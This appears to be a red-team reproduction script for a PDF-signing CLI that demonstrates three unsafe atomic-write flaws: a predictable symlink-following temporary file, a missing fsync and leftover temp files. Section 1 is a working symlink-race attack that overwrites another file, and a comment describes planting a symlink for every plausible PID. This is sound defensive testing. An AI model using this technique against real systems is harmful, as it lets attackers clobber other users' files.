#!/bin/sh
# Red-team finding (2026-12-07, round 3): `sign --prepare` / `sign --complete` write the state,
# --tbs-out, --digest-out and the signed PDF with the CLI's `write_atomically`
# (crates/countersign-cli/src/cli/sign.rs), not with src/sign/durable.rs:
#   1. the temporary name `.NAME.PID.tmp` is predictable and opened with std::fs::write
#      (O_CREAT|O_TRUNC, no O_EXCL, follows symlinks): a symlink planted in the output folder
#      makes --complete write the signed PDF through it, outside the output path (truncating the
#      victim file), and the final name becomes that symlink;
#   2. no fsync of the file before the rename, nor of the folder after: the output is visible
#      under its final name before its data is on disk (strace shows write, rename, no fsync);
#   3. a failed rename (or write) leaves the temporary file behind although the docs say a
#      refused --complete "writes nothing".
# Usage: sh redteam_deferred_write_atomically.sh COUNTERSIGN REPO OUTDIR
set -u
exe=$1; repo=$2; out=$3
pki=$repo/testdata/pki
mkdir -p "$out/o"
"$exe" sign "$repo/testdata/pdf/classic.pdf" --cert "$pki/demo.chain.pem" \
  --prepare "$out/job.state" --tbs-out "$out/job.tbs" >/dev/null 2>&1 || exit 2
openssl dgst -sha256 -sign "$pki/demo.key.pem" -out "$out/job.sig" "$out/job.tbs" || exit 2

echo "== 1. symlink at the predictable temporary name"
echo "precious data of another user" > "$out/victim.txt"
# exec keeps the shell's PID, so the temporary name is known in advance; an attacker without
# that luxury plants one symlink per plausible PID.
sh -c 'ln -s "$1/victim.txt" "$1/o/.signed.pdf.$$.tmp"; exec "$2" sign "$3/testdata/pdf/classic.pdf" --complete "$1/job.state" --signature "$1/job.sig" -o "$1/o/signed.pdf"' \
  _ "$out" "$exe" "$repo"
echo "exit $?"
ls -l "$out/o/"
printf 'victim.txt now starts with: '; head -c 8 "$out/victim.txt"; echo

echo "== 2. no flush before the rename"
rm -rf "$out/o"; mkdir -p "$out/o"
strace -f -e trace=openat,fsync,fdatasync,syncfs,rename,renameat,renameat2 \
  "$exe" sign "$repo/testdata/pdf/classic.pdf" --complete "$out/job.state" \
  --signature "$out/job.sig" -o "$out/o/signed.pdf" 2>&1 | grep -E 'o/|fsync|sync' | grep -v ENOENT

echo "== 3. temporary file left behind by a failed --complete"
rm -rf "$out/o"; mkdir -p "$out/o/signed.pdf/x"   # the output name is taken by a folder
"$exe" sign "$repo/testdata/pdf/classic.pdf" --complete "$out/job.state" \
  --signature "$out/job.sig" -o "$out/o/signed.pdf"
echo "exit $?"
ls -la "$out/o"

echo "== 4. a full disk leaves the partial temporary file (root: mounts a 64 KiB tmpfs)"
mkdir -p "$out/full" && mount -t tmpfs -o size=64k tmpfs "$out/full" || exit 0
head -c 60000 /dev/zero > "$out/full/filler"
"$exe" sign "$repo/testdata/pdf/classic.pdf" --complete "$out/job.state" \
  --signature "$out/job.sig" -o "$out/full/signed.pdf"
echo "exit $?"
ls -la "$out/full"
umount "$out/full"
